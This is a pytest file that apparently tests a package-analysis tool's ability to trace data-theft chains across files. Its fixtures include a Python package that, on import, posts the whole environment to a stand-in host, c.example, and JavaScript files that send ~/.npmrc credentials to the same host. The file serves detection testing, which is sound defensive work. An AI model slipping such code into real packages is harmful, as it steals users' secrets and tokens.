"""Chains through several files of a package, told with the lines of every file.

Spec: evenhand.enrich.code_chain.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from evenhand.limits import Limits
from evenhand.pipeline import read

SENDS = "import requests\ndef put(d):\n    requests.post('https://c.example', json=d)\n"
PACKAGES = {
    "given on by a third": (
        {
            "p/__init__.py": "from .a import go\ngo()\n",
            "p/a.py": "from . import b\nfrom .c import put\ndef go():\n    put(b.grab())\n",
            "p/b.py": "import os\ndef grab():\n    return dict(os.environ)\n",
            "p/c.py": SENDS,
        },
        ["collects and sends"],
    ),
    "by a class, of JavaScript": (
        {
            "run.js": "const { Out } = require('./out');\nconst c = require('./c');\n"
            "new Out().push(c.all());\n",
            "out.js": "const https = require('https');\nclass Out { push(d) { const r = "
            "https.request({host: 'c.example', method: 'POST'}); r.end(d); } }\n"
            "module.exports = { Out };\n",
            "c.js": "const fs = require('fs'), os = require('os');\n"
            "exports.all = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n",
        },
        ["collects and sends"],
    ),
    "a client and its own token": (
        {
            "p/__init__.py": "from .c import go\n",
            "p/c.py": "from .t import put\nfrom .k import token\ndef go(d):\n"
            "    return put({'t': token(), 'd': d})\n",
            "p/k.py": "import os\ndef token():\n    return os.environ['P_TOKEN']\n",
            "p/t.py": SENDS,
        },
        [],
    ),
}


@pytest.mark.parametrize("name", PACKAGES)
def test_chain_through_files(name: str, tmp_path: Path) -> None:
    files, kinds = PACKAGES[name]
    for path, text in files.items():
        place = tmp_path / "product" / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
    evidence, _ = read([str(tmp_path / "product")], Limits(), 1, lambda name: None)
    query = "SELECT kind, because FROM behaviour WHERE strength >= 0.5"
    found = evidence.connection.execute(query).fetchall()
    assert [kind for kind, _ in found] == kinds
    assert all(because.count("line ") > 2 for _, because in found)
